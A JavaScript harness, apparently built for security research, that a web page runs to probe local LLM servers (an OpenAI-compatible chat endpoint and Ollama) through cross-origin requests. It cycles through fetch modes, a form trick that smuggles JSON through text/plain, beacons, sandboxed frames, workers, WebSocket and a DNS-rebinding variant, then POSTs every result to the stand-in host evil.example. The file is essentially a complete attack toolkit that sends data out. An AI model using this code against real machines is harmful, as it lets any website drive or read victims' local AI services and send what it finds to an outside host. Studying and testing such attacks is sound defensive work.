// Everything that a page can try against a port. Each attempt tells what it could read: a text, or
// null. Parameters: port and gateway (the victims), pages (where to report), rebind.
"use strict";

const parameters = new URLSearchParams(location.search);
const [port, gateway, pages] = ["port", "gateway", "pages"].map((name) => parameters.get(name));
const CHAT = "/v1/chat/completions";
const BODY = '{"messages": [{"role": "user", "content": "hi"}]}';
const STREAM = '{"stream": true, "messages": [{"role": "user", "content": "hi"}]}';
const JSON_TYPE = { "Content-Type": "application/json" };
const TEXT_TYPE = { "Content-Type": "text/plain" };
const local = (path, number = port, host = "127.0.0.1") => `http://${host}:${number}${path}`;

// --- ways to ask ---

async function fetched(url, options = {}) {
  const response = await fetch(url, options);
  return response.type === "opaque" ? null : `${response.status} ${await response.text()}`;
}

const posted = (url, headers, body = BODY, more = {}) =>
  fetched(url, { method: "POST", headers, body, ...more });

const xhr = (url) => new Promise((resolve, reject) => {
  const request = new XMLHttpRequest();
  request.onload = () => resolve(request.responseText);
  request.onerror = reject;
  request.open("POST", url);
  request.setRequestHeader("Content-Type", "text/plain");
  request.send(BODY);
});

// What comes into a frame of another origin cannot be read; that it came is enough to go on.
const framed = (begin) => new Promise((resolve) => {
  const frame = document.createElement("iframe");
  frame.name = `f${Math.random()}`;
  document.body.append(frame);
  frame.onload = () => {
    try { resolve(frame.contentDocument.body.innerText || null); } catch { resolve(null); }
  };
  begin(frame);
});

const form = (url, enctype, method = "POST") => framed((frame) => {
  const made = document.createElement("form");
  Object.assign(made, { action: url, method, enctype, target: frame.name });
  const field = document.createElement("input");
  // As text/plain this comes out as JSON: {"messages": [...], "x": "="}
  field.name = '{"messages": [{"role": "user", "content": "hi"}], "x": "';
  field.value = '"}';
  made.append(field);
  document.body.append(made);
  made.submit();
});

const element = (tag, attributes) => new Promise((resolve) => {
  const made = document.createElement(tag);
  made.onload = () => resolve(`${tag} loaded`);
  made.onerror = () => resolve(null);
  Object.assign(made, attributes);
  document.body.append(made);
});

const events = (url) => new Promise((resolve) => {
  const source = new EventSource(url);
  source.onopen = source.onmessage = () => { source.close(); resolve("opened"); };
  source.onerror = () => { source.close(); resolve(null); };
});

const socket = (url) => new Promise((resolve) => {
  const made = new WebSocket(url);
  made.onopen = () => resolve("opened");
  made.onerror = () => resolve(null);
});

// A frame in a sandbox has no origin: its requests come with `Origin: null`.
const sandboxed = (url, mode) => new Promise((resolve) => {
  addEventListener("message", (event) => resolve(event.data), { once: true });
  const frame = document.createElement("iframe");
  frame.sandbox = "allow-scripts";
  frame.srcdoc = `<script>fetch(${JSON.stringify(url)}, {method: "POST", mode: "${mode}",
    headers: {"Content-Type": "text/plain"}, body: ${JSON.stringify(BODY)}})
    .then((r) => r.type === "opaque" ? null : r.text()).catch(() => null)
    .then((read) => parent.postMessage(read, "*"))</` + "script>";
  document.body.append(frame);
});

const fromWorker = (url) => new Promise((resolve) => {
  const source = `fetch(${JSON.stringify(url)}, {method: "POST", body: ${JSON.stringify(BODY)}})
    .then((r) => r.text()).catch(() => null).then(postMessage)`;
  const worker = new Worker(URL.createObjectURL(new Blob([source])));
  worker.onmessage = (event) => resolve(event.data);
});

function beacon(url, type) {
  navigator.sendBeacon(url, new Blob([BODY], type ? { type } : {}));
  return null;
}

// --- what is tried ---

const ATTEMPTS = {
  "GET models": () => fetched(local("/v1/models")),
  "GET health": () => fetched(local("/health")),
  "GET a path of the engine's": () => fetched(local("/echo")),
  "GET, no-cors": () => fetched(local("/echo"), { mode: "no-cors" }),
  "GET without referrer": () => fetched(local("/echo"), { referrerPolicy: "no-referrer" }),
  "POST JSON, with a preflight": () => posted(local(CHAT), JSON_TYPE),
  "POST JSON as a stream": () => posted(local(CHAT), JSON_TYPE, STREAM),
  "POST JSON to localhost": () => posted(local(CHAT, port, "localhost"), JSON_TYPE),
  "POST JSON to ::1": () => posted(local(CHAT, port, "[::1]"), JSON_TYPE),
  "POST with a header of its own": () => posted(local(CHAT), { ...TEXT_TYPE, "X-Api-Key": "k" }),
  "POST text, without a preflight": () => posted(local(CHAT), TEXT_TYPE),
  "POST text that says JSON": () => posted(local(CHAT), { "Content-Type": "text/plain; a=application/json" }),
  "POST text, no-cors": () => posted(local(CHAT), TEXT_TYPE, BODY, { mode: "no-cors" }),
  "POST text, no-cors, with cookies": () =>
    posted(local(CHAT), TEXT_TYPE, BODY, { mode: "no-cors", credentials: "include" }),
  "POST without a type, no-cors": () =>
    posted(local(CHAT), {}, new Blob([BODY]), { mode: "no-cors", keepalive: true }),
  "POST a form, no-cors": () =>
    posted(local(CHAT), {}, new URLSearchParams({ messages: "hi" }), { mode: "no-cors" }),
  "PUT": () => posted(local(CHAT), TEXT_TYPE, BODY, { method: "PUT" }),
  "DELETE": () => fetched(local("/echo"), { method: "DELETE" }),
  "XMLHttpRequest": () => xhr(local(CHAT)),
  "a beacon of text": () => beacon(local(CHAT), "text/plain"),
  "a beacon without a type": () => beacon(local(CHAT), ""),
  "a form of text": () => form(local(CHAT), "text/plain"),
  "a form": () => form(local(CHAT), "application/x-www-form-urlencoded"),
  "a form in parts": () => form(local(CHAT), "multipart/form-data"),
  "a form by GET": () => form(local("/echo"), "", "GET"),
  "a frame": () => framed((frame) => { frame.src = local("/echo"); }),
  "an image": () => element("img", { src: local("/echo") }),
  "a script": () => element("script", { src: local("/echo") }),
  "a style sheet": () => element("link", { rel: "stylesheet", href: local("/echo") }),
  "EventSource": () => events(local("/echo")),
  "WebSocket": () => socket(`ws://127.0.0.1:${port}/v1/realtime`),
  "a sandbox": () => sandboxed(local(CHAT), "cors"),
  "a sandbox, no-cors": () => sandboxed(local(CHAT), "no-cors"),
  "a worker": () => fromWorker(local(CHAT)),
  "the gateway": () => posted(local(CHAT, gateway), TEXT_TYPE, BODY, { mode: "no-cors" }),
  "Ollama's list": () => fetched(local("/api/tags", gateway)),
  "Ollama's chat": () => posted(local("/api/chat", gateway), TEXT_TYPE),
  "Ollama's chat, no-cors": () =>
    posted(local("/api/chat", gateway), TEXT_TYPE, '{"model": "a"}', { mode: "no-cors" }),
};

// Of the origin that the page itself has: what a rebound name gives it.
const REBOUND = {
  "rebound: GET models": () => fetched("/v1/models"),
  "rebound: POST JSON": () => posted(CHAT, JSON_TYPE),
  "rebound: EventSource": () => events("/echo"),
  "rebound: a frame": () => framed((frame) => { frame.src = "/echo"; }),
};

async function main() {
  const rebind = parameters.has("rebind");
  if (rebind) await fetch(`http://evil.example:${pages}/rebind`);
  const found = {};
  for (const [name, attempt] of Object.entries(rebind ? REBOUND : ATTEMPTS)) {
    try { found[name] = await attempt(); } catch { found[name] = null; }
  }
  await fetch(`http://evil.example:${pages}/report`, {
    method: "POST", mode: "no-cors", body: JSON.stringify(found),
  });
}

main();
